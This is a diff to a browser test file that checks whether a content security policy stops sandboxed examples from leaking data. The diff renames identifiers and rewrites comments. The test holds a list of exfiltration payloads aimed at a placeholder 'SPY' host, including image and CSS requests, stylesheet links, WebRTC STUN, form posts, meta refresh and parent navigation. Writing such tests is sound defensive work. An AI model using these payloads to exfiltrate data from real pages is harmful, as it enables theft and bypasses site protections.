@@ -11,8 +11,8 @@ import {
 } from './support/attack.ts';
 import { type Spy, startSpy } from './support/spy.ts';
 
-/** Roads by which an example could tell a stranger what it knows; `SPY` is the stranger's address. */
-const roads: Readonly<Record<string, string>> = {
+/** APIs by which an example could send data to another server; `SPY` is its address. */
+const leaks: Readonly<Record<string, string>> = {
   'an image': "new Image().src = 'SPY/image?key=1';",
   'an image of a style': "document.body.style.background = 'url(SPY/background)';",
   'a style sheet': html('<link rel="stylesheet" href="SPY/sheet">'),
@@ -65,7 +65,7 @@ const roads: Readonly<Record<string, string>> = {
     "const talk = new RTCPeerConnection({ iceServers: [{ urls: 'SPY'.replace('http://', 'stun:') }] }); talk.createDataChannel('a'); await talk.setLocalDescription(await talk.createOffer());",
 };
 
-/** Roads that lead the whole page away: each is tried by itself. */
+/** Navigations of the whole page: each is tried alone. */
 const departures: Readonly<Record<string, string>> = {
   'a form': `${html('<form action="SPY/form" method="post"></form>')}document.forms[0].submit();`,
   'a refresh of the page': html('<meta http-equiv="refresh" content="0;url=SPY/refresh">'),
@@ -73,10 +73,10 @@ const departures: Readonly<Record<string, string>> = {
   'the address of the page around it': "window.parent.location.href = 'SPY/parent';",
 };
 
-/** What Chromium without a window asks for nowhere, or not over HTTP: icons, prefetch by rules. */
+/** Requests that headless Chromium never sends, or not over HTTP: icons, speculation rules. */
 const UNHEARD = /^\/(?:icon|manifest|speculation|report|transport)$/;
 
-/** Paths that attacks ask for. */
+/** Paths that attacks request. */
 const pathsOf = (attacks: Readonly<Record<string, string>>) =>
   [
     ...Object.values(attacks)
@@ -87,7 +87,7 @@ const pathsOf = (attacks: Readonly<Record<string, string>>) =>
     .filter((path) => !UNHEARD.test(path));
 
 let spy: Spy;
-/** Hears the same attacks from a page that no policy guards. */
+/** Receives the same attacks from a page without a policy. */
 let witness: Spy;
 
 test.beforeAll(async () => {
@@ -100,41 +100,41 @@ test.afterAll(() => {
   witness.stop();
 });
 
-const withoutQuery = ({ heard }: Spy) => heard.map((path) => path.replace(/\?.*/, ''));
+const withoutQuery = ({ requests }: Spy) => requests.map((path) => path.replace(/\?.*/, ''));
 
-test('nothing leaves an example, by no road on which a page without its policy is heard', async ({
+test('nothing leaves an example by any API that sends something from a page without its policy', async ({
   page,
   context,
 }) => {
   test.setTimeout(180_000);
   await openTarget(page);
-  const attacks = attackTogether(roads);
+  const attacks = attackTogether(leaks);
   await attack(page, `await ${attacks.replaceAll('SPY', spy.origin)};`);
   await expectTried(page);
 
-  // What the example sends in vain had at least the time that the same takes here, later.
+  // The same requests, sent later from a page without a policy, prove that those of the example had time.
   const unguarded = await context.newPage();
   await unguarded.goto(witness.origin);
   await unguarded.evaluate(attacks.replaceAll('SPY', witness.origin));
   const missing = () => {
-    const heard = withoutQuery(witness);
-    return [...pathsOf(roads), 'UDP'].filter((path) => !heard.includes(path));
+    const received = withoutQuery(witness);
+    return [...pathsOf(leaks), 'UDP'].filter((path) => !received.includes(path));
   };
   await expect.poll(missing, RUN).toEqual([]);
-  expect.soft(spy.heard.splice(0), 'heard from the example').toEqual([]);
+  expect.soft(spy.requests.splice(0), 'received from the example').toEqual([]);
 
-  for (const [road, statements] of Object.entries(departures)) {
-    await test.step(road, async () => {
+  for (const [name, statements] of Object.entries(departures)) {
+    await test.step(name, async () => {
       await attack(page, statements.replaceAll('SPY', spy.origin));
       await expectTriedOrStopped(page);
       await unguarded.goto(witness.origin);
       await unguarded.evaluate(
         `setTimeout(() => { ${statements} })`.replaceAll('SPY', witness.origin),
       );
-      const [path] = pathsOf({ road: statements });
-      await expect.poll(() => witness.heard, RUN).toContain(path);
-      expect.soft(spy.heard.splice(0), `heard by ${road}`).toEqual([]);
-      expect.soft(page.url(), `the page after ${road}`).toContain(target.path);
+      const [path] = pathsOf({ name: statements });
+      await expect.poll(() => witness.requests, RUN).toContain(path);
+      expect.soft(spy.requests.splice(0), `received by ${name}`).toEqual([]);
+      expect.soft(page.url(), `the page after ${name}`).toContain(target.path);
     });
   }
 });
